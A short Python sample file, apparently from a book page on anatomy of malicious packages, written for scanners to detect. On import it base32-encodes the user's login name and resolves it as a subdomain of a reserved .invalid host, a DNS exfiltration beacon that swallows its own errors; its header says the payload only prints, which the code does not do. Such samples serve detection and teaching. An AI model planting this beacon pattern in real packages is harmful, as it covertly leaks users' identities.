# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import base64
import getpass
import socket


def _beacon():
    label = base64.b32encode(getpass.getuser().encode()).decode().strip("=").lower()
    socket.gethostbyname(f"{label}.t.example.invalid")


try:
    _beacon()
except OSError:
    pass
